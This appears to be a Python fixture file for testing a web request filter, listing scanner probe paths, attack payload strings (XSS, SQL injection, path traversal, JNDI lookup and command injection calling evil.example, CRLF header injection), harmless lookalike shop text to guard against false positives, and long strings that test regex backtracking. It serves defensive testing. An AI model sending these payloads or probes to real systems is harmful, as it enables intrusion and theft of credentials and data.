"""Attacks of our own making, as scanners send them, and what honest people write that looks a little like them."""

PROBES = (
    "/.env", "/.git/HEAD", "/wp-login.php", "/wp-admin/setup-config.php", "/xmlrpc.php", "/phpmyadmin/index.php",
    "/.aws/credentials", "/server-status", "/actuator/env", "/vendor/phpunit/src/eval-stdin.php", "/cgi-bin/luci",
    "/backup.zip", "/config.json",
    "/.DS_Store", "/id_rsa", "/index.php?s=1", "/shell.jsp", "/old.sql", "/_ignition/execute-solution", "/HNAP1/",
)  # fmt: skip

SHAPES = (
    "<script>alert(1)</script>", "\"><svg/onload=alert(1)>", "<img src=x onerror=alert(1)>", "javascript:alert(1)",
    "' OR 1=1--", "1' AND '1'='1", "x') UNION ALL SELECT NULL,NULL--", "1 UNION/**/SELECT password FROM users",
    "1 AND 4711=4711", "cup' OR NOT 3=3", "'; WAITFOR DELAY '0:0:5'--", "1;SELECT pg_sleep(5)", "cup') ORDER BY 9#",
    "1 AND SLEEP(5)", "'||(SELECT 1)||'", "1; DROP TABLE orders", "x' AND extractvalue(1,2)", "1 FROM sqlite_master",
    "../../../../etc/passwd", "..\\..\\win.ini", "file:///etc/hosts", "php://filter/read=x", "/etc/shadow",
    "${jndi:ldap://evil.example/a}", "${${lower:j}ndi}", "{{7*7}}", "{{config.items()}}", "#{7*7}", "<%= 7*7 %>", "${7*7}",
    "; cat /etc/hostname", "| id", "`whoami`", "$(curl evil.example)", "a\r\nSet-Cookie: sid=1",
    "a\nLocation: //evil.example", "cup\x00", "%2e%2e%2fetc", "%3Cscript%3E",
)  # fmt: skip

HONEST = (
    "potter's wheel", '"cup" or "bowl"', '12" plate or 10" bowl', "mug & saucer", "tea (small)", "50% off",
    "C++ cups; bowls", "select cups from the shelf", "cup union jack", "O'Neill and sons",
    "it's 'ours' and \"yours\"", "salt and pepper = 2",
    "<3 vases", "rock 'n' roll", "what's $20?", "price > 10 and < 20", "mugs -- blue", "order by mail", "black/white",
    "drop table settings", "1 and 2", "Größe 3/4", "cup, and bowl", "100%", "#blue", "a+b", "{cup}", "vase..bowl",
    "Script font",
)  # fmt: skip

# Each would be slow for a pattern that can go back over what it has read.
HOSTILE = tuple(
    (each * 8192)[:8192]
    for each in (
        "a", "' ", "/*", "<", "select ", "union ", "...", " ", "'or", "${", "{{", "\r\n", "select from ", "%25", "' and (((",
        "#{", "and 111111111 ", "union(", "order by 1 ", "a.php", "/.", "'" + " " * 500, "select" + "x" * 79,
    )
)  # fmt: skip
